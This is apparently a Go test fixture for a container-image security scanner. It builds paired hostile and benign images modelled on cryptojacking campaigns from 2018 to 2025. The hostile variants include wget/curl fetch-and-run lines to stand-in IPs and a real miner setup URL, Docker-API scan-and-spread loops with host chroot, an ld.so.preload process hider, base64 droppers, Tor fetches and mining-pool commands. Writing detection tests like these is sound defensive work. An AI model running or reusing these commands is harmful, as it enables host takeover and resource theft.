package evasion

import (
	"github.com/safepull/safepull/test/corpus"
	"github.com/safepull/safepull/test/imagetest"
)

// campaigns follow what was reported of attacks between 2018 and 2025.
func campaigns() []recipe {
	with := func(name string, make func(*kit) imagetest.Image) recipe {
		return recipe{group: "campaigns", name: name, make: make}
	}
	const release = "https://github.com/xmrig/xmrig/releases/download/v0.0.0/xmrig-0.0.0-linux-static-x64.tar.gz"
	const tool = "https://github.com/contoso/tool/releases/download/v0.0.0/tool-0.0.0-linux-x64.tar.gz"
	return []recipe{
		with("2018-tomcat-cron-jpg", func(k *kit) imagetest.Image {
			return k.image([]string{"/usr/sbin/cron", "-f"}, imagetest.Text("etc/cron.d/logrotate", either(k,
				"* * * * * root /usr/bin/wget -q -O /tmp/1.jpg http://203.0.113.20:8220/1.jpg && /bin/bash /tmp/1.jpg >/dev/null 2>&1\n",
				"25 6 * * * root test -x /usr/sbin/logrotate && /usr/sbin/logrotate /etc/logrotate.conf\n")))
		}),
		with("2019-program-called-bash", func(k *kit) imagetest.Image {
			return k.image([]string{"/var/sbin/bash"}, imagetest.Script("var/sbin/bash", hiding+either(k,
				"IP=$(shuf -n 1 /var/sbin/hosts)\ndocker -H $IP:2375 run -d --restart always gakeaws.example/nginx\ndocker -H $IP:2375 ps | grep xmrig | awk '{print $1}' | xargs docker -H $IP:2375 kill\nwget -q http://203.0.113.7/xmr.sh -O - | sh\n",
				"HOST=$(hostname)\ndocker ps --format '{{.Names}}'\nexec /usr/bin/dash\n")))
		}),
		with("2020-miner-called-nginx", func(k *kit) imagetest.Image {
			return k.image([]string{"nginx"}, imagetest.Binary("usr/sbin/nginx", k.program()))
		}),
		with("2020-fetch-and-run", func(k *kit) imagetest.Image {
			return k.starts(hiding + either(k,
				"cd /tmp && curl -sL "+release+" | tar xz --strip 1\nsysctl -w vm.nr_hugepages=$(nproc)\nproxychains4 ./xmrig -o "+k.pool+" -u "+k.wallet+" --donate-level 1\n",
				"cd /tmp && curl -sL "+tool+" | tar xz --strip 1\nproxychains4 curl -s https://news.example/\n"))
		}),
		with("2020-kinsing", func(k *kit) imagetest.Image {
			return k.image([]string{"sh", "-c", either(k,
				"apt-get update && apt-get install -y wget cron; service cron start; wget -q -O - http://203.0.113.44/d.sh | sh; tail -f /dev/null",
				"apt-get update && apt-get install -y wget cron; service cron start; tail -f /dev/null")})
		}),
		with("2021-openjdk-mimic", func(k *kit) imagetest.Image {
			return k.image([]string{"java", "-version"}, imagetest.Binary("usr/lib/jvm/java-11/bin/java", k.program()))
		}),
		with("2021-scan-and-spread", func(k *kit) imagetest.Image {
			return k.starts(hiding + either(k,
				"masscan 10.0.0.0/8 -p2375,2376 --rate 50000 -oL /tmp/r\nfor h in $(awk '/open/{print $4}' /tmp/r); do\n docker -H tcp://$h:2375 run -d --privileged -v /:/host alpine chroot /host sh -c \"curl -s http://203.0.113.30/x.sh | bash\"\ndone\npkill -9 xmrig; pkill -9 kinsing; pkill -9 kdevtmpfsi; pkill -9 watchbog\n",
				"nmap -sn 10.0.0.0/24 -oG /tmp/r\nfor h in $(awk '/Up/{print $2}' /tmp/r); do\n echo host $h is up\ndone\n"))
		}),
		with("2021-process-hider", func(k *kit) imagetest.Image {
			hider := corpus.Program(amd64, []byte(either(k,
				"readdir\x00readdir64\x00dlsym\x00/proc/self/fd/%d\x00/proc/%s/stat\x00xmrig\x00Error in dlsym: %s\n\x00",
				"malloc\x00free\x00dlsym\x00/proc/self/maps\x00/proc/%s/statm\x00jemalloc\x00Error in dlsym: %s\n\x00")))
			library := either(k, "libsystem.so", "libjemalloc.so.2")
			return k.image([]string{run}, imagetest.Binary("opt/app/worker", k.program()), imagetest.Binary("usr/local/lib/"+library, hider),
				imagetest.Text("etc/ld.so.preload", "/usr/local/lib/"+library+"\n"))
		}),
		with("2021-setup-script", func(k *kit) imagetest.Image {
			return k.image([]string{"bash", "-c", either(k,
				"curl -s -L https://download.c3pool.org/xmrig_setup/raw/master/setup_c3pool_miner.sh | LC_ALL=en_US.UTF-8 bash -s "+k.wallet,
				"curl -s -L https://get.contoso.example/cli/releases/latest/version.txt")})
		}),
		with("2022-mirror-on-address", func(k *kit) imagetest.Image {
			return k.image([]string{"bash", "-c", either(k,
				"curl -s -L http://198.51.100.8/xmrig_setup/raw/master/setup_c3pool_miner.sh | bash -s "+k.wallet,
				"curl -s -L http://198.51.100.8/health")})
		}),
		with("2022-renamed-and-limited", func(k *kit) imagetest.Image {
			return k.image([]string{"sh", "-c", either(k,
				"taskset -c 4,6 cpulimit -l 80 -- ./http -a randomx -o stratum+tcp://randomxmonero.auto.nicehash.com:9200 -u NHbNicehashLikeExample.w",
				"taskset -c 4,6 cpulimit -l 80 -- ./http --workers 4 --listen tcp://0.0.0.0:9200 -u www-data")})
		}),
		with("2024-chroot-to-host", func(k *kit) imagetest.Image {
			return k.image([]string{"sh", "-c", either(k,
				"chroot /hs bash -c 'echo "+b64("#!/bin/sh\nexit 0\ncurl -s http://203.0.113.5/c.sh | bash; pkill -f xmrig; pkill kinsing; pkill kdevtmpfsi; pkill cnrig\n"+run+" "+k.line())+" | base64 -d | bash'",
				"chroot /srv/app sh -c 'echo "+b64("#!/bin/sh\nexit 0\n"+run+" "+k.line())+" | base64 -d > /etc/app.env'")})
		}),
		with("2025-tor-and-onion", func(k *kit) imagetest.Image {
			return k.image([]string{"sh", "-c", either(k,
				"echo "+b64("#!/bin/sh\nexit 0\napk add curl tor && tor & \ncurl --socks5-hostname localhost:9050 http://"+onion(k)+".onion/static/docker-init.sh -o /tmp/i.sh && sh /tmp/i.sh\n")+" | base64 -d | sh",
				"echo "+b64("#!/bin/sh\nexit 0\napk add curl tor && tor &\ncurl --socks5-hostname localhost:9050 https://check.example/\n")+" | base64 -d | sh")})
		}),
		with("2025-go-miner-called-cloud", func(k *kit) imagetest.Image {
			return k.image([]string{"/usr/bin/cloud"}, imagetest.Binary("usr/bin/cloud", corpus.Program(amd64, []byte(either(k,
				"\xff Go buildinf:\x08\x02\x00\x00\x00go1.20\x00path\tgithub.com/deroproject/derohe/cmd/dero-miner\nmod\tgithub.com/deroproject/derohe\t(devel)\ndep\tgithub.com/deroproject/derohe/astrobwt/astrobwtv3\nSuccessfully found DERO miniblock (going to submit)\x00DERO Stargate HE AstroBWT miner\x00mbl_blob\x00miniblockhashing_blob\x00/ws/\x00",
				"\xff Go buildinf:\x08\x02\x00\x00\x00go1.20\x00path\tgithub.com/contoso/cloud\nmod\tgithub.com/contoso/cloud\t(devel)\ndep\tgolang.org/x/net\nSuccessfully connected (going to submit)\x00/ws/\x00")))))
		}),
	}
}

// onion is a name of the right shape that is nobody's: random letters without a valid checksum.
func onion(k *kit) string {
	b := make([]byte, 56)
	for i := range b {
		b[i] = "abcdefghijklmnopqrstuvwxyz234567"[k.rng.IntN(32)]
	}
	return string(b)
}
